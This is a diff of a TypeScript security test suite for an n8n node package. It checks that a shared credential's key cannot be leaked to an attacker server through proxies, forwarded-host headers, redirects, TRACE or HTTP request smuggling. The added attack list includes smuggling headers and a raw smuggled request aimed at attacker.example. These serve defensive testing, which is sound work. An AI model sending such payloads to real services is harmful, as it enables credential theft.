@@ -7,12 +7,15 @@ import { DEMO_CHANNEL_ID, DEMO_SECRET_KEY } from '../../sandbox/seed.mts';
 import type { CredentialReference, FinishedExecution } from '../../scripts/n8n/types.mts';
 import { byId, Host, startNode, TRIGGER } from './harness/host.mts';
 
-/** An attacker may use a credential but not read it, and tries to have its key sent to a server of his own by n8n's HTTP Request node. */
+/**
+ * An attacker may use a credential but cannot read it. The attacker tries to send its key to
+ * another server with n8n's HTTP Request node.
+ */
 const host = new Host();
 const { credential: type } = host.underTest;
 const SECRET_KEY = 'sandbox_sk_borrowed-and-not-taken-91b4';
 
-/** A server that keeps the head of every request as it came. */
+/** A server that keeps the head of every request as received. */
 interface Watched {
 	url: string;
 	heads: string[];
@@ -35,7 +38,7 @@ async function watch(respond: (request: IncomingMessage) => object): Promise<Wat
 			})
 			.end(JSON.stringify(respond(request)));
 	});
-	// What a proxy is asked for when the service is reached by https.
+	// The proxy gets this request if the service is reached by https.
 	server.on('connect', (request, socket) => {
 		heads.push(headOf(request));
 		socket.end('HTTP/1.1 502 No\r\n\r\n');
@@ -56,7 +59,7 @@ let attacker: Watched;
 let borrowed: CredentialReference;
 
 beforeAll(async () => {
-	// Gives back what it is sent where it is asked to: TRACE is made for that.
+	// TRACE makes the server send back what it received.
 	service = await watch((request) => (request.method === 'TRACE' ? request.headers : { ok: true }));
 	attacker = await watch((request) => request.headers);
 	borrowed = await host.client.createCredential('Borrowed', type.type, {
@@ -86,7 +89,7 @@ interface Run {
 	record: string;
 }
 
-/** Runs an HTTP Request node by hand, and after it one that writes down what it can find of an error. */
+/** Runs an HTTP Request node by hand, then a node that records what it can find of an error. */
 async function request(
 	parameters: INodeParameters,
 	{ credential = borrowed, onError = 'stopWorkflow', typeVersion = 4.2 }: Settings = {},
@@ -121,7 +124,7 @@ async function request(
 const READ_EVERYTHING =
 	'={{ JSON.stringify([$json.error?.cause?.options?.headers, $json.error?.options?.headers, $json.error?.cause?.cause?.options?.headers, $json.error?.config, $json.error?.cause?.config, $json]) }}';
 
-test('the key is sent with an ordinary request, so that what follows would be seen', async () => {
+test('an ordinary request carries the key, so the other tests would see it', async () => {
 	await request({
 		sendHeaders: true,
 		headerParameters: { parameters: [{ name: 'X-Mark', value: 'mark' }] },
@@ -161,7 +164,9 @@ const pageParameter = (parameterType: string, name: string, value: string): INod
 	},
 });
 
-const ATTACKS: Array<[name: string, parameters: () => INodeParameters, remedy: RegExp]> = [
+type Attack = [name: string, parameters: () => INodeParameters, remedy: RegExp];
+
+const ATTACKS: Attack[] = [
 	['a proxy', () => ({ options: { proxy: attacker.url } }), /"Proxy"/],
 	[
 		'a proxy, certificates unchecked',
@@ -204,6 +209,33 @@ const ATTACKS: Array<[name: string, parameters: () => INodeParameters, remedy: R
 		/"common"/,
 	],
 	['X-Forwarded-Host', () => header('X-Forwarded-Host'), /"x-forwarded-host"/],
+	...[
+		'Content-Length',
+		'Transfer-Encoding',
+		'Connection',
+		'Upgrade',
+		'TE',
+		'Expect',
+		'X-HTTP-Method-Override',
+		'X-Original-URL',
+	].map((name): Attack => [
+		`${name}, as it is written`,
+		() => ({ ...header(name), options: { lowercaseHeaders: false } }),
+		new RegExp(`"${name}"`),
+	]),
+	[
+		'a second request in its body, after a length of 0',
+		() => ({
+			method: 'POST',
+			sendHeaders: true,
+			headerParameters: { parameters: [{ name: 'Content-Length', value: '0' }] },
+			sendBody: true,
+			contentType: 'raw',
+			rawContentType: 'text/plain',
+			body: 'GET /v1/smuggled HTTP/1.1\r\nHost: attacker.example\r\n\r\n',
+		}),
+		/"content-length"/,
+	],
 	[
 		'a next page that looks relative',
 		() => nextUrl(attacker.url.replace('http://', 'http:')),
@@ -221,7 +253,7 @@ const ATTACKS: Array<[name: string, parameters: () => INodeParameters, remedy: R
 	],
 	['TRACE, which says back what it was sent', () => ({ method: '={{ "TRACE" }}' }), /GET, HEAD/],
 ];
-test.each(ATTACKS)('no key is given to a request with %s', async (_name, parameters, remedy) => {
+test.each(ATTACKS)('gives no key to a request with %s', async (_name, parameters, remedy) => {
 	const { execution, record } = await request(parameters());
 	expect(attacker.heads.filter((head) => head.includes(SECRET_KEY))).toEqual([]);
 	expect(service.heads).toEqual([]);
@@ -229,7 +261,7 @@ test.each(ATTACKS)('no key is given to a request with %s', async (_name, paramet
 	expect(execution.resultData.error?.message).toMatch(remedy);
 });
 
-test('a redirect is not followed', async () => {
+test('does not follow a redirect', async () => {
 	const { execution } = await request({ url: `${service.url}/v1/moved` });
 	expect(service.heads[0]).toContain(SECRET_KEY);
 	expect(attacker.heads).toEqual([]);
@@ -246,7 +278,7 @@ const FAILURES: Array<[name: string, parameters: () => INodeParameters]> = [
 
 // docs/security.md describes this behaviour of n8n. If n8n changes it, change the page.
 test.each(FAILURES)(
-	'n8n 2 lets an expression read what a failed request sent, when %s',
+	'n8n 2 shows an expression the request that failed, when %s',
 	async (_name, parameters) => {
 		const { record } = await request(parameters(), { onError: 'continueRegularOutput' });
 		expect(service.heads[0]).toContain(SECRET_KEY);
@@ -254,9 +286,10 @@ test.each(FAILURES)(
 	},
 );
 
-// n8n shows the headers of a failed request, credentials included, to the next node's expressions. Only a request without the key keeps it.
+// n8n shows the headers of a failed request to the next node's expressions, with the credentials.
+// Only a request without the key protects it.
 test.each(FAILURES)(
-	'a credential whose Allowed HTTP Request Domains are None leaves no key in what a workflow reads of an error, when %s',
+	'a credential that allows no HTTP Request domain keeps its key out of an error, when %s',
 	async (_name, parameters) => {
 		const kept = await host.client.createCredential('Kept', type.type, {
 			baseUrl: service.url,
@@ -276,7 +309,7 @@ test.each(FAILURES)(
 	},
 );
 
-test('with such a credential, the nodes of this package work as with any', async () => {
+test('the nodes of this package work with such a credential', async () => {
 	const kept = await host.client.createCredential('Kept', type.type, {
 		baseUrl: host.underTest.sandboxUrl,
 		secretKey: DEMO_SECRET_KEY,
